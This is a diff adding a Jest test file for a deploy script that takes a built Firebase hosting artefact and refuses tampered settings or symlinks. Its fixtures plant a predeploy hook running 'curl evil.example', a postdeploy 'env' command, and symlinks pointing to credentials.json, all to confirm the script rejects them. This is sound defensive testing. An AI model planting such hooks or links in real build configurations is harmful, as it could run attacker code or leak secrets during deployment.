@@ -1,0 +1,85 @@
+/** @jest-environment node */
+import { spawnSync } from 'node:child_process';
+import {
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { firebaseJson } from '@/tools/hosting/firebase';
+import { hostingRules } from '@/tools/hosting/rules';
+
+let root: string;
+let to: string;
+const write = (file: string, text: string) => {
+  mkdirSync(path.join(root, 'artefact', path.dirname(file)), { recursive: true });
+  writeFileSync(path.join(root, 'artefact', file), text);
+};
+const built = () => JSON.parse(firebaseJson(hostingRules(), ['index.html'])) as { hosting: object };
+
+beforeEach(() => {
+  root = mkdtempSync(path.join(tmpdir(), 'artefact-'));
+  to = path.join(root, 'deploy');
+  write('firebase.json', JSON.stringify(built()));
+  write('out/index.html', '<!doctype html>');
+  write('out/.well-known/security.txt', 'Contact: x');
+  writeFileSync(path.join(root, 'credentials.json'), 'secret');
+});
+afterEach(() => rmSync(root, { recursive: true }));
+
+function take(target?: string) {
+  const args = [path.join(root, 'artefact'), 'firebase.json', 'out', to, ...(target ? [target] : [])];
+  return spawnSync(process.execPath, ['tools/deploy/take-artefact.mjs', ...args], { encoding: 'utf8' });
+}
+
+test('takes the files of the folder, and how they are served; where to comes from the checkout', () => {
+  // The build has no say in them: a project in the artefact is not read.
+  write('.firebaserc', '{ "projects": { "default": "another" } }');
+  expect(take().stdout).toBe('2 files of out to serve.\n');
+  expect(readdirSync(to).sort()).toEqual(['.firebaserc', 'firebase.json', 'public']);
+  expect(readFileSync(path.join(to, 'public/.well-known/security.txt'), 'utf8')).toBe('Contact: x');
+  expect(readFileSync(path.join(to, '.firebaserc'), 'utf8')).toBe(readFileSync('.firebaserc', 'utf8'));
+  const config = JSON.parse(readFileSync(path.join(to, 'firebase.json'), 'utf8')) as object;
+  expect(config).toEqual({ hosting: { ...built().hosting, public: 'public' } });
+});
+
+test('sets the target itself', () => {
+  write('firebase.json', JSON.stringify({ hosting: { ...built().hosting, site: 'another', target: 'another' } }));
+  take('editor');
+  const { hosting } = JSON.parse(readFileSync(path.join(to, 'firebase.json'), 'utf8')) as { hosting: object };
+  expect(hosting).toEqual({ ...built().hosting, public: 'public', target: 'editor' });
+});
+
+const planted = (settings: object) => () =>
+  write('firebase.json', JSON.stringify({ hosting: { ...built().hosting, ...settings } }));
+const link = (from: string, target: string) => () => {
+  rmSync(path.join(root, 'artefact', from), { recursive: true, force: true });
+  symlinkSync(path.join(root, target), path.join(root, 'artefact', from));
+};
+
+test.each<[string, () => void, string]>([
+  ['a command before', planted({ predeploy: 'curl evil.example' }), '"hosting" of firebase.json has predeploy'],
+  ['a command after', planted({ postdeploy: ['env'] }), '"hosting" of firebase.json has postdeploy'],
+  ['a rewrite', planted({ rewrites: [] }), 'has rewrites'],
+  ['another folder', planted({ public: '../..' }), 'serves "../..", not "out"'],
+  ['other products', () => write('firebase.json', JSON.stringify({ ...built(), functions: {} })), 'has functions'],
+  ['settings of another file', () => write('firebase.json', '{ "hosting": "other.json" }'), 'no group of settings'],
+  ['several sites', () => write('firebase.json', '{ "hosting": [{ "public": "out" }] }'), 'no group of settings'],
+  ['a link to a file', link('out/a.txt', 'credentials.json'), 'a.txt is neither a file nor a folder'],
+  ['a link to a folder', link('out/pictures', '.'), 'pictures is neither a file nor a folder'],
+  ['a link in the place of the folder', link('out', '.'), 'out is a link'],
+  ['a link in the place of the settings', link('firebase.json', 'credentials.json'), 'firebase.json is a link'],
+])('%s stops it, and nothing is left to deploy', (_, plant, message) => {
+  plant();
+  const { status, stderr } = take();
+  expect(stderr).toContain('Nothing is deployed');
+  expect(stderr).toContain(message);
+  expect(status).toBe(1);
+  expect(existsSync(to)).toBe(false);
+});
